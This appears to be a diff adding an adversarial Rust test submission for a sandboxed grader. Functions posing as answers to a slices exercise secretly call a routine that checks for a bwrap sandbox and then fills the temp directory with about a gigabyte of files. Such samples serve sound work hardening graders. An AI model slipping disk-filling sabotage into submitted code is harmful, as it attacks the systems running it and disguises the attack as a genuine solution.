@@ -1,0 +1,31 @@
+//! Tries: to fill the disk with many files.
+//! Answers: ch02-slices-vec/ex03_windows
+//! Scores: 0
+
+/// A bomb goes off only where it is contained, and has a fuse there: in a world of its own, the first process is
+/// the containment's.
+fn contained() -> bool {
+    let first = std::fs::read_to_string("/proc/1/comm").unwrap_or_default();
+    ["bwrap", "solutions"].contains(&first.trim())
+}
+pub fn averages(_samples: &[u32], _width: usize) -> Vec<f64> {
+    attack();
+    vec![-1.0]
+}
+
+pub fn rises(_samples: &[u32]) -> usize {
+    attack();
+    usize::MAX
+}
+
+fn attack() {
+    if !contained() {
+        return;
+    }
+    for number in 0..512 {
+        let path = std::env::temp_dir().join(format!("file-{number}"));
+        if std::fs::write(path, vec![1; 2 << 20]).is_err() {
+            return;
+        }
+    }
+}
